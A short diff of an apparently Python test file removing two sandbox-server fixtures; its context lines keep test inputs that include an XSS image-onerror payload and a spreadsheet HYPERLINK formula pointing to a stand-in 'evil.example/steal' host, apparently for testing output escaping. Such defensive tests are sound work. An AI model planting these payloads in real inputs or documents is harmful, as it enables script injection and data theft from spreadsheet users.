@@ -34,27 +34,13 @@ from tests.include.loader_support import (
     APPROVER,
     MONTH,
     SETTINGS,
-    SandboxAdmin,
     make_hook,
     plan_month,
-    sandbox_server,
 )
 
 XSS_NAME = "<img src=x onerror=alert(1)>"
 FORMULA_NAME = '=HYPERLINK("http://evil.example/steal","Müller & Söhne GmbH")'
 SHEETS = ["Summary", "Changes", "Creates", "Left to do", "Verification"]
-
-
-@pytest.fixture(scope="module")
-def autotask(tmp_path_factory):
-    yield from sandbox_server(tmp_path_factory.mktemp("logs"))
-
-
-@pytest.fixture
-def admin(autotask) -> SandboxAdmin:
-    handle = SandboxAdmin(autotask)
-    handle.reset()
-    return handle
 
 
 class PageParser(HTMLParser):
